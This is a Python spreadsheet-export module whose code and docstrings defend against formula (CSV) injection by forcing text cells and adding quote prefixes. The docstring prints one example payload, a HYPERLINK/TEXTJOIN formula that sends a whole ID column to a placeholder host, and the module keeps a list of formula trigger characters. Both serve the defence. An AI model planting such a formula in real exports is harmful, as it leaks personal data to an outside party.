"""Writing spreadsheets: the one place every export (.xlsx, and .csv if one is ever added) goes through.

**Text stays text (formula injection, OWASP "CSV injection").** A person, visitor or note can be named
``=HYPERLINK("http://e.x/?"&TEXTJOIN(",",1,H:H),"核对")``: written as an ordinary value, a spreadsheet
program runs it when the file is opened and the ID column leaves with a click. So:

- .xlsx: every ``str`` is written as an inline string (``t="inlineStr"``), never as a formula, whatever
  it begins with. A value that begins with a character a spreadsheet program reads as the start of
  a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return, and their full-width forms) also gets
  the text number format (``@``) and Excel's own "quote prefix" flag, which is what Excel stores
  when a user types ``'=...``: the cell shows the text exactly as it is (no apostrophe in the value)
  and stays text when it is edited. Nothing visible is changed, so a sheet of rejected rows can be
  corrected and imported again as it is.
- .csv has no cell types, so the only defence is in the text: a value that begins with one of those
  characters is written with a leading apostrophe, OWASP's advice (Excel and LibreOffice then show it
  as text). That alters what a program reading the file sees, which is why the system exports .xlsx
  and writes no CSV today; ``write_csv`` is the way to add one.

Numbers (``int``, ``float``, ``Decimal``) are written as numbers: ``-3`` stays the number -3.
``tests/core/test_excel.py`` holds every writer of the project to this module.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

# What makes Excel, LibreOffice or Google Sheets start a formula (or DDE) when it reads a value.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Excel refuses a whole file with a longer cell.
MAX_CELL_CHARACTERS = 32767
# Characters XML 1.0 cannot carry (openpyxl raises on them): a name typed with a stray control key
# would otherwise make the whole export fail. They become U+FFFD, so that a reader sees something
# was there.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SUSPECT = re.compile("^[" + re.escape("".join(FORMULA_TRIGGERS)) + "]|" + _ILLEGAL.pattern)
_NUMBERS = (int, float, Decimal)
TEXT_FORMAT = "@"  # Excel's "Text" number format


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def _clean(text: str) -> str:
    if _ILLEGAL.search(text):
        text = _ILLEGAL.sub("\ufffd", text)
    return text[:MAX_CELL_CHARACTERS]


class _Rows:
    """Rows for one write-only sheet.

    A plain ``str`` given to openpyxl becomes an inline string unless it starts with "=", when
    openpyxl makes it a formula; so most rows go through as plain values (openpyxl's fast path, and
    no style: a styled cell per value made a large export a third slower), and a row with a value
    that would start a formula is made of cells whose type is set here. All the cells of such a row
    are built here: openpyxl writes the plain values that follow a cell object into that same
    object, which would hand them its style. The few styles (bold, text format, quote prefix) are
    made once and their style arrays shared, as a write-only cell is written when it is appended and
    never changed after."""

    def __init__(self, sheet: Any, *, all_text: bool) -> None:
        self.sheet = sheet
        self.all_text = all_text
        self.styles = {(bold, text, quoted): self._style(bold=bold, text=text, quoted=quoted)
                       for bold in (False, True) for text in (False, True) for quoted in (False, True)}

    def _style(self, *, bold: bool, text: bool, quoted: bool) -> Any:
        cell = WriteOnlyCell(self.sheet)
        if bold:
            cell.font = Font(bold=True)
        if text or quoted:
            cell.number_format = TEXT_FORMAT
        if quoted:
            cell.quotePrefix = True
        return cell._style

    def row(self, values: Sequence[Any], *, header: bool = False) -> list[Any]:
        out: list[Any] = []
        cells = header or self.all_text
        for value in values:
            if value is None:
                value = ""
            elif not isinstance(value, _NUMBERS):
                value = str(value)
                # One scan finds both a formula start and a character XML cannot carry.
                if _SUSPECT.search(value) or len(value) > MAX_CELL_CHARACTERS:
                    value = _clean(value)
                    cells = cells or looks_like_formula(value)
            out.append(value)
        return [self._cell(v, bold=header) for v in out] if cells else out

    def _cell(self, value: Any, *, bold: bool) -> Cell:
        cell = WriteOnlyCell(self.sheet)
        if isinstance(value, str):
            # Set directly: openpyxl's value setter makes a formula of any text that starts with "=".
            cell._value = value
            cell.data_type = "s"
            quoted = looks_like_formula(value)
        else:
            cell.value = value
            quoted = False
        text = self.all_text and isinstance(value, str)
        if bold or text or quoted:
            cell._style = self.styles[bold, text, quoted]
        return cell


def write_xlsx(headers: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str = "Sheet1",
               all_text: bool = False) -> bytes:
    """One sheet: a bold header row, then the rows. Text stays text (see the module docstring); ID
    and phone numbers are given as text, so Excel does not round them. ``all_text`` also puts every
    text cell in the text format, for a sheet meant to be edited and imported again: a number typed
    into it then stays as typed."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    cells = _Rows(sheet, all_text=all_text)
    sheet.append(cells.row(headers, header=True))
    for row in rows:
        sheet.append(cells.row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_text(value: Any) -> Any:
    """A value as a CSV field: numbers as they are, text with an apostrophe in front when it would
    start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = _clean(str(value))
    return "'" + text if looks_like_formula(text) else text


def write_csv(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a byte-order mark (Excel needs it to read Chinese), every text field quoted."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([csv_text(h) for h in headers])
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
